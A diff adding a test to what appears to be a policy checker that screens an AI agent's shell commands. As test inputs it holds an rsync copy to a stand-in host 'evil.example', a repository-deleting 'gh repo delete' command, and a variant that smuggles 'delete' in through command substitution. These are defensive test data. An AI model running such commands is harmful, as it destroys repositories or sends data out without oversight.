@@ -328,3 +328,14 @@ def test_a_learned_shape_never_matches_another_place(tmp_path: Path) -> None:
     pol = learned(tmp_path, "rsync -a '[!*?[./~-]*' '[!*?[./~-]*'")
     assert check.check(pol, line="rsync -a src out", agent="bot").verdict == "allow"
     assert check.check(pol, line="rsync -a src evil.example:x", agent="bot").verdict == "review"
+
+
+def test_a_body_known_only_at_run_time_is_no_subcommand(tmp_path: Path) -> None:
+    """`gh issue create --body "$(cat notes.md)"` under a learned `gh issue create **`: the body
+    cannot turn the command into `gh ... delete` (a subcommand stands one or two deep)."""
+    pol = learned(tmp_path, "gh issue create **", "gh repo **")
+    line = 'gh issue create --title t --body "$(cat notes.md)"'
+    assert check.check(pol, line=line, agent="bot").verdict == "allow"
+    for line in ("gh repo delete o/r --yes", 'gh repo "$(echo delete)" o/r'):
+        d = check.check(pol, line=line, agent="bot")
+        assert d.verdict == "review" and d.irreversible, line
